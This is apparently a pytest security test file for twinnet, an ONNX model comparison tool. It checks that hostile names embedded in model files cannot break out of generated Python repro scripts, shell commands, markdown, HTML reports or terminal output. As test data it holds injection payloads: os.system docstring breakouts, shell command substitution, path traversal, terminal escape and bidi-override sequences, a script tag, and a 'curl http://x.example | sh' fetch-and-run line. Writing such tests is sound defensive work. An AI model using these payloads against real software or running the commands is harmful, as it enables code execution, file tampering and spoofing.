"""Names in a file are text: they reach source, shells, pages and terminals, and do nothing there."""

from __future__ import annotations

import ast
import re
import shlex
import subprocess
import sys
import unicodedata
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper, numpy_helper
from typer.testing import CliRunner

import twinnet
from twinnet.cli.main import app
from twinnet.engines.spec import file_name
from twinnet.report.json_file import load_result
from twinnet.report.next_steps import next_command
from twinnet.report.quoting import command, docstring, screen

NAMES = [
    '"""; import os; os.system("touch PWNED") #',
    '\\"""\nimport os; os.system("touch PWNED")\n"""',
    "'); __import__('os').system('touch PWNED') #",
    "\x1b]0;x\x07\x1b[2Jcleared",
    "$(touch PWNED)`touch PWNED`; touch PWNED",
    "../../../PWNED",
    "two\nlines\r\n# heading\n```\n<script>alert(1)</script>",
    "\u202egnp.exe\u2066 | [link](http://x.example) @someone #1 **bold**",
    "[red]x[/blue]{0.__class__}%s%n",
]


def network(name: str, shift: float) -> onnx.ModelProto:
    """Two layers whose nodes, tensors and weights all carry the name; `shift` is the fault."""
    rng = np.random.default_rng(0)
    w = numpy_helper.from_array(rng.normal(size=(4, 4)).astype(np.float32), f"{name} w")
    b = numpy_helper.from_array(np.full(4, 0.5 + shift, np.float32), f"{name} b")
    nodes = [
        helper.make_node("MatMul", ["x", f"{name} w"], [f"{name} m"], name=f"{name} 1"),
        helper.make_node("Add", [f"{name} m", f"{name} b"], [name], name=f"{name} 2"),
        helper.make_node("Sigmoid", [name], ["y"], name=f"{name} 3"),
    ]
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2, 4])
    graph = helper.make_graph(nodes, name, [x], [y], [w, b], doc_string=name)
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)


def controls(text: str) -> set[str]:
    """Characters that a terminal or an editor obeys."""
    return {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp") and c != "\n"}


@pytest.fixture
def files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest) -> Path:
    """A folder with a network and its wrong twin, with nothing else above it that a name could reach."""
    home = tmp_path / "a" / "b" / "c" / "d"
    home.mkdir(parents=True)
    monkeypatch.chdir(home)
    onnx.save(network(request.param, 0.0), "net.onnx")
    onnx.save(network(request.param, 0.25), "twin.onnx")
    return home


def said(*words: str) -> str:
    done = CliRunner().invoke(app, list(words))
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.output


@pytest.mark.parametrize("files", NAMES, indirect=True)
def test_a_name_does_nothing_wherever_it_goes(files: Path, tmp_path: Path) -> None:
    screens = [
        said("check", "net.onnx", "--twin", "onnxruntime:twin.onnx", "-o", "run", "--repro"),
        said("show", "run"),
        said("judge", "run"),
        said("inspect", "net.onnx", "--ops"),
        said("diff", "net.onnx", "twin.onnx"),
        said("check", "net.onnx", "--twin", "onnxruntime:twin.onnx", "-o", "again", "--unmatched", "-v"),
    ]
    assert "FAIL" in screens[0]
    screens += [repr(twinnet.diff("net.onnx", "twin.onnx")), repr(load_result(Path("run")))]
    for text in screens:
        assert not controls(text)

    # repro.py: its first statement is one text, and running it does what it says.
    source = Path("run/repro/repro.py").read_text(encoding="utf-8")
    tree = ast.parse(source)
    assert isinstance(tree.body[0], ast.Expr) and isinstance(tree.body[0].value, ast.Constant)
    assert isinstance(tree.body[1], ast.ImportFrom) and tree.body[1].module == "__future__"
    assert not controls(source)
    done = subprocess.run(
        [sys.executable, "-I", "run/repro/repro.py"], capture_output=True, text=True, check=False
    )
    assert done.returncode == 1 and "the fault exists" in done.stdout

    for page in ("run/summary.md", "run/repro/ISSUE.md"):
        check_markdown(Path(page).read_text(encoding="utf-8"))
    report = Path("run/report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in report

    line, _ = next_command(load_result(Path("run")))  # type: ignore[arg-type]
    assert shlex.split(line)[:2] == ["twinnet", "repro"] and len(shlex.split(line)) == 3

    made = {p.relative_to(tmp_path).parts[:4] for p in tmp_path.rglob("*") if p.is_file()}
    assert made == {("a", "b", "c", "d")}, "nothing was written outside"
    assert not list(tmp_path.rglob("*PWNED*"))


def check_markdown(text: str) -> None:
    """No control characters; outside of code nothing is a link, HTML of the name, a mention or a broken table."""
    assert not controls(text)
    outside, fence = [], ""
    for line in text.splitlines():
        mark = re.match("`{3,}", line)
        if mark and (not fence or mark[0] == fence):
            fence = "" if fence else mark[0]
        elif not fence:
            outside.append(line)
    assert not fence, "every block ends"
    rows = [line for line in outside if line.startswith("|")]
    plain = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "CODE", "\n".join(outside))
    assert "<script" not in plain and "@someone" not in plain and "http://" not in plain
    assert not re.search(r"(?<!\\)\]\(", plain)
    assert not re.search(r"^# heading", plain, re.M)
    for row in rows:
        cells = len(re.findall(r"(?<!\\)\|", row))
        assert cells in (3, 5, 6), row


@pytest.mark.parametrize("name", [*NAMES, "\\", 'x"', "\\N{DIGIT ONE}\\x41\\"])
def test_a_text_in_a_docstring_stays_one(name: str) -> None:
    tree = ast.parse(f'"""{docstring(name)}\n"""\n')
    assert len(tree.body) == 1 and ast.get_docstring(tree, clean=False) == f"{screen(name)}\n"


def test_a_command_in_a_run_folder_is_not_offered_unless_it_is_ours() -> None:
    assert command("curl http://x.example | sh") == ""
    assert command("'") == ""
    assert shlex.split(command("twinnet check a.onnx; touch PWNED")) == [
        "twinnet", "check", "a.onnx;", "touch", "PWNED",
    ]  # fmt: skip
    assert ";" not in command("twinnet check a.onnx; touch PWNED").replace("'a.onnx;'", "")


@pytest.mark.parametrize("name", ["../../x", "..", ".", "/etc/passwd", "a\nb", "$(x)", "\u202e"])
def test_file_names_stay_in_their_folder(name: str, tmp_path: Path) -> None:
    made = tmp_path / file_name(name)
    assert made.resolve().parent == tmp_path.resolve()
    assert not controls(made.name) and "\n" not in made.name


def test_an_error_message_does_not_control_the_terminal(tmp_path: Path) -> None:
    path = tmp_path / "\x1b]0;x\x07net.onnx"
    done = subprocess.run(
        [sys.executable, "-m", "twinnet.cli.main", "inspect", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 2 and not controls(done.stderr) and "\\x1b]0;x" in done.stderr


def test_verbs_print_with_say_only() -> None:
    """One place keeps escape sequences off the terminal: nothing in cli/ prints beside it."""
    folder = Path(twinnet.__file__).parent / "cli"
    for path in folder.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        assert path.name == "_screen.py" or "typer.echo(" not in text, path
